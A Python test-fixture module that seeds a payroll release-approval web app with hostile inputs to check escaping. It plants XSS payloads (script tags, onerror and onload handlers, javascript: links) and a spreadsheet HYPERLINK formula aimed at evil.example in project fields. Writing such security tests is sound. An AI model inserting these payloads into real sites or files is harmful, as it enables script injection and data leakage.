"""A sample project with a gate opened on release 1.1.0, for the web page's tests (no scenario run).

The campaign is recorded from made-up results, one of them with a hostile name, so a gap's detail
and the traceability hold ``<script>…</script>``.
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

from amoa_workflow.bootstrap import Application, bootstrap, web_app
from amoa_workflow.checkpoint import services
from amoa_workflow.domain.model import ScenarioResult, Status
from amoa_workflow.domain.notifications import Event
from amoa_workflow.gates import approvals
from amoa_workflow.settings.project import load_settings
from amoa_workflow.web.links import LinkSigner

HOSTILE = "<script>alert(1)</script>"
MARK = "amoa-pwned"  # what a script that ran would leave: the page's title, an attribute, a global
_RUN = f"document.title='{MARK}';document.documentElement.dataset.pwned=1"
PAYLOAD = (
    f'<script>{_RUN}</script><img src=x onerror="{_RUN}"><svg onload="{_RUN}"></svg>'
    f'[clic](javascript:{_RUN}) <a href="javascript:{_RUN}">lien</a> <!-- x --> **gras** http://evil.example/'
)
FORMULA = '=HYPERLINK("http://evil.example/?leak","clic")'  # a spreadsheet cell that would be a formula
SECRET = "test-secret-0123456789-abcdefghijklmnop"
ENVIRON = {"AMOA_WEB_SECRET": SECRET, "AMOA_WEB_URL": "http://testserver"}
APPROVERS = """
[[approvers]]
id = "dupont"
name = "Claire Dupont"
domains = ["Paie"]

[[approvers]]
id = "martin"
name = "Paul Martin"

[[gates]]
name = "vabf"
label = "VABF"
checkpoint = "recette"
approvers = ["dupont", "martin"]
quorum = "any"
"""


def result(key: str, name: str, status: Status, codes: Sequence[str]) -> ScenarioResult:
    message = "attendu 125, obtenu 110" if status is Status.FAILED else None
    tags = tuple(f"@{c}" for c in codes)
    return ScenarioResult(
        key, "features/paie.feature", "Paie", name, 3, status, tags, tuple(codes), message=message
    )


RESULTS = (
    result("features/paie.feature::bulletin", "Bulletin du mois", Status.PASSED, ["EXG-001"]),
    result(f"features/paie.feature::{HOSTILE}", HOSTILE, Status.FAILED, ["EXG-002"]),
    result("features/paie.feature::heures", "Heures supplémentaires", Status.FAILED, ["EXG-004"]),
)


def make_hostile(project: Path) -> None:
    """The payloads in every field people write in the sample's files: the project's name, a
    requirement's title (starting as a formula), a release note item."""
    config = project / "config" / "amoa.toml"
    text = config.read_text(encoding="utf-8")
    config.write_text(
        text.replace('name = "Remplacement du logiciel de paie"', f"name = {json.dumps('Paie ' + PAYLOAD)}"),
        encoding="utf-8",
    )
    requirements = project / "requirements" / "exigences.yaml"
    text = requirements.read_text(encoding="utf-8")
    title = json.dumps(f"{FORMULA} Salaire net {PAYLOAD}")
    requirements.write_text(
        text.replace("titre: Calcul du salaire net à partir du brut", f"titre: {title}"), encoding="utf-8"
    )
    notes = project / "release_notes" / "CHANGELOG.md"
    text = notes.read_text(encoding="utf-8")
    text = text.replace("Bulletin de paie dématérialisé,", f"Bulletin {PAYLOAD} dématérialisé,")
    text = text.replace("Documentation de l'API enrichie", f"Documentation {PAYLOAD} de l'API enrichie")
    notes.write_text(text, encoding="utf-8")


def hostile_results() -> tuple[ScenarioResult, ...]:
    """The sample's made-up results, a scenario named with the payload and another as a formula."""
    return (
        result("features/paie.feature::bulletin", FORMULA, Status.PASSED, ["EXG-001"]),
        result("features/paie.feature::hostile", PAYLOAD, Status.FAILED, ["EXG-002"]),
        result("features/paie.feature::heures", "Heures supplémentaires", Status.FAILED, ["EXG-004"]),
    )


def prepared(
    project: Path,
    database_url: str,
    announce: bool = False,
    approvers: str = APPROVERS,
    results: Sequence[ScenarioResult] = RESULTS,
) -> Application:
    """The project bootstrapped, release 1.1.0 recorded and its gate ``vabf`` opened.

    ``announce``: the approval request goes through the application's announcer (outbox, channels,
    signed links when ``AMOA_WEB_SECRET`` is set), else nowhere.
    """
    (project / "config" / "approvers.toml").write_text(approvers, encoding="utf-8")
    app = bootstrap(load_settings(project, environ={"AMOA_DATABASE_URL": database_url}))
    key = services.campaign_key("recette", "1.1.0")
    services.ingest(app.uow(), app.sources, "1.1.0")
    outcome = services.record_campaign(
        app.uow(),
        app.settings.project_name,
        "recette",
        "1.1.0",
        key,
        results,
        "runs/x",
        rules=app.settings.rules,
    )
    sent: list[Event] = []
    notify = app.announcer(app.notifications()) if announce else sent.extend
    approvals.open_gates(
        app.uow(), app.gates(), "recette", "1.1.0", outcome.gaps, "no_go", services.utc_now, notify, "test"
    )
    return app


def signer() -> LinkSigner:
    return LinkSigner(SECRET.encode())


def token(approver: str = "dupont", gate: str = "vabf", release: str = "1.1.0", hours: float = 2) -> str:
    return signer().issue(approver, release, gate, datetime.now(UTC), timedelta(hours=hours))[0]


__all__ = [
    "ENVIRON",
    "FORMULA",
    "HOSTILE",
    "MARK",
    "PAYLOAD",
    "make_hostile",
    "prepared",
    "signer",
    "token",
    "web_app",
]


@contextmanager
def served(app: Application, port: int) -> Iterator[str]:
    """The approvers' page of ``app`` served by uvicorn on loopback, in a thread; its base address."""
    import httpx
    import uvicorn

    config = uvicorn.Config(web_app(app, os.environ), host="127.0.0.1", port=port, log_level="warning")
    running = uvicorn.Server(config)
    thread = threading.Thread(target=running.run, daemon=True)
    thread.start()
    base = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        try:
            if httpx.get(base + "/healthz", timeout=1).status_code == 200:
                break
        except httpx.TransportError:
            time.sleep(0.05)
    try:
        yield base
    finally:
        running.should_exit = True
        thread.join(timeout=10)
